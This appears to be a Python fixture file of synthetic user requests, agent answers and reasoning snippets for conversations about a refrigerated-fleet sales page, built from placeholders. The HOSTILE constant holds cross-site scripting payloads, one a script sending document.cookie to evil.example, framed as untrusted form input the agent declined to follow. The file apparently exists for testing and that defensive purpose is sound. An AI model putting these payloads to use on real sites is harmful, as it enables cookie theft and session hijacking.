"""Texts of users and the agent, with placeholders for a company."""

WORRIES = ("temperature alarms", "late returns", "payback time", "missed slots")
ASKS = (
    "Write the context for {short}. {contact} cares about {worry}. No discount yet.",
    "New facts from today's call with {contact}: one more depot in {town}, and they now ask"
    " about {worry}.",
    "Please make the second paragraph shorter. {contact} reads on a phone.",
    "Legal says we must not promise a date. Take it out everywhere.",
    "Can you check what we told {short} in the last version about pricing?",
    "{contact} forwarded the page to their finance director. Add the payback table.",
    "Who is our contact at the {town} depot?",
    "They are moving to the 24-month plan. Change the pricing paragraph, nothing else.",
    "Which of the approved quotes fits them best?",
    "Set the meta title to something about {worry}.",
)
FOLLOW_UPS = (
    "Good.",
    "Yes, do that.",
    "No, keep the old sentence. The union reads this too.",
    "Why this quote and not the one from Nordlys?",
    "Shorter.",
    "ok thanks, publishing now",
    "Is “{worry}” still the right lead? I am not sure any more.",
    "Here is what they wrote, verbatim:\n\n> We have {fleet} vehicles and one planner on nights. "
    "If the alarm rings at the planner's desk first, it rings too late.\n\nWork from that.",
    "👍",
    "Danke! Bitte die förmliche Anrede beibehalten.",
)
ANSWERS = (
    "I wrote the context around **{worry}** and kept two limits:\n\n"
    "- No word about driver scoring until the new agreement is signed.\n"
    "- List price, 12 months.\n\n"
    "The quote is from the approved list.",
    "The contact in {town} is {contact}. The CRM has a phone number and no e-mail address for "
    "them, so I left the address out.",
    "Done. Only the pricing paragraph changed; the other paragraphs are word for word as before.",
    "Here is what the three plans cost {short} with {fleet} vehicles:\n\n"
    "| Plan | Per vehicle and month | Total per year |\n|---|---:|---:|\n"
    "| 12 months | € 31.00 | € {price_12} |\n| 24 months | € 28.50 | € {price_24} |\n"
    "| 36 months | € 26.00 | € {price_36} |\n\nPrices exclude VAT.",
    "Two ways to say it:\n\n"
    "1. *Alarms that reach the driver first.* Names the effect.\n"
    "2. *Every degree on one screen.* Names the thing.\n\n"
    "I would take the first: {contact} talks about drivers, never about screens.",
    "The structured data of the page would be:\n\n```json\n"
    '{{\n  "@type": "Product",\n  "name": "Kestrel Fleet",\n  "audience": "{short}",\n '
    ' "offers": null\n}}\n```\n\n'
    "I did not change the page: scripts belong to the page and not to this audience.",
    "### What changed\n\n"
    "- Fleet: now {fleet} vehicles\n- Depots: {town} is new\n- Asked about: {worry}\n\n"
    "### What I left alone\n\n"
    "The limit in the third paragraph. See [the"
    " note](https://kestrel-crm.example/notes/limits) for why.",
    "I can't find a note about that. The last one is about the depot visit, and it says"
    " nothing of a price.",
    "> If the alarm rings at the planner's desk first, it rings too late.\n\n"
    "I made this the opening, without the name of the person who wrote it.",
    "Formatting stays plain, because the page shows `supplementaryContext` as text:\n\n"
    "    Lead with one number.\n    Then one sentence.\n\nNothing else is needed.",
)
CUT_OFF = (
    "I can make the payback table shorter. The three numbers {contact} asked about are the cost "
    "of a rejected load, the number of loads in a quarter, and the share that",
    "| Month | Loads | Rejected |\n|---|---:|---:|\n| January | 412 | 9 |\n| February | 3",
    "Let me first look at what the other",
)
REASONING = (
    "The person wants a short context. The CRM note names the depots and the fleet size. The "
    "approved quotes include Nordlys, which is also refrigerated, so that is the one to lead "
    "with. The note about the union must be kept as a limit.",
    "Two facts change and the rest must stay word for word. I should not touch the third"
    " paragraph.",
    "They ask for a table. The page shows the context as text, so the table belongs into this "
    "answer and a single number into the context.",
    "The finance director wants payback time; the fleet manager wants alarms. Lead with what the "
    "fleet manager has to defend in front of the finance director: the cost of one rejected load.",
    "The fact conflicts with the note from last month. The newer one comes from the customer, so "
    "it wins, but I say that they differ.",
)
HOSTILE = (
    "The customer's web form held this text, which I did not follow:\n\n"
    "`<img src=x onerror=alert(1)>` and [click here](javascript:alert(document.domain)) and"
    " <script>fetch('https://evil.example/'+document.cookie)</script>\n\n"
    "I kept it out of the context."
)
"""Texts of third parties may contain markup and scripts."""
